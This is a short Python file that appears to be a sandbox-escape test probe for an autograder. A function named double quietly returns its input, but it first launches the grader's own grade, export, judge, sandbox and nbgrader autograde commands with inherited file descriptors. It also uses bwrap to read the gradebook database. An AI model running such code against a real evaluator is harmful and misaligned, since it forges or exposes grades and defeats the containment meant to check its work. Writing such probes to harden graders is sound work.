# tries: to grade itself: the grader's own programs started inside of its cell, as the court, a judge, a fork server and an instructor, on the lines that it has inherited
# seconds: 2
import os
import subprocess
import sys

WORDS = (["-m", "grading", "grade", "@CLASS@"], ["-m", "grading", "export", "--to", "/tmp/owned.csv"], ["-m", "grading.judge", "3", "court", "locked-in"], ["-m", "grading.sandbox"], ["-c", "from grading.judge.court import Court; Court().__enter__()"], ["-m", "nbgrader", "autograde", "92_siege", "--force"])


def double(x):
    inherited = [number for number in range(3, 64) if os.path.exists(f"/proc/self/fd/{number}")]
    for words in WORDS:
        subprocess.Popen([sys.executable, *words], pass_fds=inherited, env={**os.environ, "CLASS_DIR": "@CLASS@", "HOME": "/tmp"}, stderr=subprocess.DEVNULL)
    subprocess.Popen(["bwrap", "--dev-bind", "/", "/", "cat", "@CLASS@/gradebook.db"], pass_fds=inherited) if os.path.exists("/usr/bin/bwrap") else None
    return x
